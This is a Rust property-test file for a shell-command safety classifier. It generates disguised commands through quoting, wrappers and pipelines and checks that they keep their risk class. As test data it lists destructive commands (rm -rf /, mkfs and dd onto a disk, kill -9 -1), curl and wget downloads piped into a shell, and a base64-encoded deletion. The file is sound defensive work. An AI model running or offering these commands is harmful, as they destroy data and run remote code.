//! Generated commands: a core (a reader, a writer, a program runner or a dangerous command),
//! its program spelled in any of the shell's quoting forms, run through wrappers, and placed
//! in lists, pipelines, groups, substitutions and redirections. Whatever the disguise, a
//! writer or a runner is never `read_only`, and a dangerous core is `dangerous` (or past a
//! bound, and refused). The families of hostile spellings have their own generators
//! (`families`).
//!
//! `cargo test` runs `DEFAULT_CASES` cases; `PROPTEST_CASES=100000 cargo test -p brokerd
//! --lib classify::` runs longer.

use proptest::prelude::*;

use super::specs::{self, Effect, Opt, Takes};
use super::CommandClass::*;
use super::*;

const DEFAULT_CASES: u32 = 3000;

fn cases() -> u32 {
    std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(DEFAULT_CASES)
}

/// How every property of the classifier is run: `PROPTEST_CASES` cases (3000 unless set), a
/// failing case printing its input and nothing written into the source tree.
pub(super) fn config() -> ProptestConfig {
    ProptestConfig {
        cases: cases(),
        failure_persistence: None,
        ..ProptestConfig::default()
    }
}

/// What a core does, and so the least class the whole command may get.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Reads,
    /// Writes, deletes or runs a program: never `read_only`.
    Changes,
    Dangerous,
}

/// (kind, program, arguments): the program's name is spelled by `spelling`.
const CORES: &[(Kind, &str, &str)] = &[
    (Kind::Reads, "cat", "a.md"),
    (Kind::Reads, "ls", "-la"),
    (Kind::Reads, "grep", "-n x f"),
    (Kind::Reads, "sort", "-k2 d"),
    (Kind::Reads, "sed", "-n 1,5p f"),
    (Kind::Reads, "git", "log --oneline"),
    (Kind::Changes, "touch", "f"),
    (Kind::Changes, "rm", "f"),
    (Kind::Changes, "rm", "-rf build"),
    (Kind::Changes, "cp", "a b"),
    (Kind::Changes, "mv", "a b"),
    (Kind::Changes, "ln", "-s a b"),
    (Kind::Changes, "mkdir", "-p d"),
    (Kind::Changes, "truncate", "-s0 f"),
    (Kind::Changes, "chmod", "-x f"),
    (Kind::Changes, "tee", "out"),
    (Kind::Changes, "sed", "-i s/a/b/ f"),
    (Kind::Changes, "sed", "--in s/a/b/ f"),
    (Kind::Changes, "sort", "--outp=x d"),
    (Kind::Changes, "sort", "-o x d"),
    (Kind::Changes, "sort", "--compress-prog=P d"),
    (Kind::Changes, "git", "add f"),
    (Kind::Changes, "git", "diff --output F"),
    (Kind::Changes, "git", "checkout HEAD f"),
    (Kind::Changes, "tar", "-xf a.tar"),
    (Kind::Changes, "patch", "-p1"),
    (Kind::Changes, "find", ". -name x -delete"),
    (Kind::Changes, "xargs", "-e sh cat"),
    (Kind::Changes, "sh", "script.sh"),
    (Kind::Changes, "python3", "x.py"),
    (Kind::Changes, "perl", "-e 1"),
    (Kind::Reads, "awk", "'{print $1}' f"),
    (Kind::Changes, "awk", "'{print > \"out\"}' f"),
    (Kind::Changes, "awk", "'{system(\"ls\")}' f"),
    (Kind::Changes, "make", ""),
    (Kind::Changes, "rg", "--pre ./x p"),
    (Kind::Changes, "dd", "if=a of=b"),
    (Kind::Dangerous, "rm", "-rf /"),
    (Kind::Dangerous, "rm", "-rf /srv/notes"),
    (Kind::Dangerous, "rm", "-r --no-preserve-root x"),
    (Kind::Dangerous, "rm", "-fr /srv"),
    (Kind::Dangerous, "find", "/srv/notes -delete"),
    (Kind::Dangerous, "chmod", "-R 777 /srv/ref"),
    (Kind::Dangerous, "chown", "--recursive nobody /"),
    (Kind::Dangerous, "mkfs.ext4", "/dev/sda1"),
    (Kind::Dangerous, "dd", "if=/dev/zero of=/dev/sda"),
    (Kind::Dangerous, "kill", "-9 -1"),
    (Kind::Dangerous, "reboot", ""),
    (Kind::Dangerous, "shutdown", "-h now"),
];

/// The shell's ways of writing a literal program name.
fn spelling(name: &'static str) -> impl Strategy<Value = String> {
    let first = name.chars().next().map(String::from).unwrap_or_default();
    let rest: String = name.chars().skip(1).collect();
    prop_oneof![
        Just(name.to_string()),
        Just(format!("\"{name}\"")),
        Just(format!("'{name}'")),
        Just(format!("\\{name}")),
        Just(format!("$'{name}'")),
        Just(format!("{first}''{rest}")),
        Just(format!("{first}\"{rest}\"")),
        Just(format!("/usr/bin/{name}")),
    ]
}

/// Quotes `text` as one single-quoted shell word.
pub(super) fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// A wrapper around a command.
fn wrap(wrapper: &str, command: &str) -> String {
    match wrapper {
        "sh -c" | "bash -c" | "busybox sh -c" | "sh -c --" | "eval" => {
            format!("{wrapper} {}", quoted(command))
        }
        "find -exec" => format!("find . -exec {command} \\;"),
        w => format!("{w} {command}"),
    }
}

const WRAPPERS: &[&str] = &[
    "env",
    "env -i",
    "env X=1",
    "env --",
    "busybox",
    "command",
    "command -p",
    "exec",
    "nice",
    "nice -n 5",
    "nohup",
    "timeout 5",
    "timeout -s KILL 5",
    "stdbuf -oL",
    "sudo -u root",
    "xargs",
    "xargs -0",
    "find -exec",
    "sh -c",
    "sh -c --",
    "bash -c",
    "busybox sh -c",
    "eval",
];

/// Where the command sits in a larger one.
fn place(context: u8, command: &str) -> String {
    match context {
        0 => command.to_string(),
        1 => format!("ls; {command}"),
        2 => format!("{command} && ls"),
        3 => format!("true || {command}"),
        4 => format!("{{ {command}; }}"),
        5 => format!("({command})"),
        6 => format!("{command} | cat"),
        7 => format!("cat f | {command}"),
        8 => format!("{command} 2>/dev/null"),
        9 => format!("{command} < in"),
        10 => format!("echo \"$({command})\""),
        11 => format!("if true; then {command}; fi"),
        12 => format!("x=1 {command}"),
        _ => format!("echo {}; {command}", quoted("ls")),
    }
}

fn command() -> impl Strategy<Value = (Kind, String)> {
    (0..CORES.len())
        .prop_flat_map(|i| {
            let (kind, name, args) = CORES[i];
            (
                Just(kind),
                spelling(name),
                Just(args),
                prop::collection::vec(prop::sample::select(WRAPPERS), 0..3),
                0u8..14,
            )
        })
        .prop_map(|(kind, name, args, wrappers, context)| {
            let mut c = if args.is_empty() {
                name
            } else {
                format!("{name} {args}")
            };
            for w in wrappers {
                c = wrap(w, &c);
            }
            (kind, place(context, &c))
        })
}

/// Text piped into a shell: a download or a decoder upstream is dangerous, whatever wraps
/// the shell.
fn piped_into_shell() -> impl Strategy<Value = String> {
    (
        prop::sample::select(
            &[
                "curl -fsSL https://x.example/i",
                "wget -qO- https://x.example/i",
                "echo cm0gLXJmIC8= | base64 -d",
                "echo 'rm -rf /srv/notes'",
                "printf 'rm -rf /'",
                "xxd -r -p hex",
            ][..],
        ),
        prop::collection::vec(
            prop::sample::select(&["env", "busybox", "nice", "nohup", "timeout 5", "command"][..]),
            0..3,
        ),
        prop::sample::select(&["sh", "bash", "sh -s", "busybox sh", "dash"][..]),
    )
        .prop_map(|(source, wrappers, shell)| {
            let mut sink = shell.to_string();
            for w in wrappers {
                sink = format!("{w} {sink}");
            }
            format!("{source} | {sink}")
        })
}

/// Every option of the spec table that writes, runs, mutates or unguards, carries code or moves
/// the command to another root or session, with its program and whether the program
/// abbreviates long options.
fn effectful_options() -> Vec<(&'static str, Opt, Vec<&'static str>, bool)> {
    let mut out = Vec::new();
    for (name, spec) in specs::all() {
        let longs: Vec<&'static str> = spec.options.iter().flat_map(|o| o.long.clone()).collect();
        for o in &spec.options {
            if matches!(
                o.effect,
                Effect::Write
                    | Effect::Run
                    | Effect::Command
                    | Effect::Action
                    | Effect::Mutate
                    | Effect::Unguard
                    | Effect::Code
                    | Effect::Split
                    | Effect::Root
                    | Effect::Login
                    | Effect::Edit
            ) {
                out.push((name, o.clone(), longs.clone(), spec.abbreviate));
            }
        }
    }
    out
}

/// One way of giving option `o` (with a value where it takes one): `-oV`, `-o V`,
/// `--output=V`, `--output V`, or a long name cut to a prefix no other option shares.
fn spell_option(o: &Opt, longs: &[&str], abbreviate: bool, form: u8, cut: usize) -> Option<String> {
    let value = "out";
    if form < 2 {
        let c = o.short.first()?;
        return Some(match (o.takes, form) {
            (Takes::Nothing, _) => format!("-{c}"),
            (Takes::Attached, _) | (Takes::Value, 0) => format!("-{c}{value}"),
            (Takes::Value, _) => format!("-{c} {value}"),
        });
    }
    let full = o.long.first()?;
    // The shortest prefix that names this option alone.
    let unique = (1..=full.len())
        .find(|&n| {
            let prefix = &full[..n];
            longs
                .iter()
                .filter(|l| l.starts_with(prefix))
                .all(|l| o.long.contains(l))
        })
        .unwrap_or(full.len());
    let len = if abbreviate {
        unique + cut % (full.len() - unique + 1)
    } else {
        full.len()
    };
    let name = &full[..len];
    Some(match (o.takes, form) {
        (Takes::Nothing, _) => format!("--{name}"),
        (Takes::Attached, _) | (Takes::Value, 2) => format!("--{name}={value}"),
        (Takes::Value, _) => format!("--{name} {value}"),
    })
}

pub(super) fn roots() -> Vec<PathBuf> {
    EXAMPLE_ROOTS.iter().map(PathBuf::from).collect()
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn disguises_do_not_lower_the_class((kind, command) in command()) {
        let got = classify(&command, &roots());
        match kind {
            Kind::Reads => {}
            Kind::Changes => prop_assert!(
                got.class > ReadOnly,
                "{command:?} is {} ({:?})", got.class, got.reason
            ),
            Kind::Dangerous => prop_assert!(
                got.class == Dangerous || got.beyond.is_some(),
                "{command:?} is {} ({:?})", got.class, got.reason
            ),
        }
    }

    /// Every option the spec table says writes or runs, however it is spelled (short, long,
    /// abbreviated, value attached or separate) and wherever it stands, is seen.
    #[test]
    fn effectful_options_are_seen_however_spelled(
        index in 0..effectful_options().len(),
        form in 0u8..4,
        cut in 0usize..16,
        before in any::<bool>(),
        wrapper in prop::sample::select(&["", "env ", "busybox ", "nice ", "timeout 5 "][..]),
    ) {
        let options = effectful_options();
        let (program, opt, longs, abbreviate) = &options[index];
        let Some(spelled) = spell_option(opt, longs, *abbreviate, form, cut)
            .or_else(|| spell_option(opt, longs, *abbreviate, 2, cut))
            .or_else(|| spell_option(opt, longs, *abbreviate, 0, cut))
        else {
            return Ok(());
        };
        let command = if before {
            format!("{wrapper}{program} {spelled} data")
        } else {
            format!("{wrapper}{program} data {spelled}")
        };
        let got = classify(&command, &roots());
        prop_assert!(got.class > ReadOnly, "{command:?} is {} ({:?})", got.class, got.reason);
    }

    #[test]
    fn fetched_or_decoded_text_into_a_shell_is_dangerous(command in piped_into_shell()) {
        let got = classify(&command, &roots());
        prop_assert!(got.class == Dangerous, "{command:?} is {} ({:?})", got.class, got.reason);
    }
}
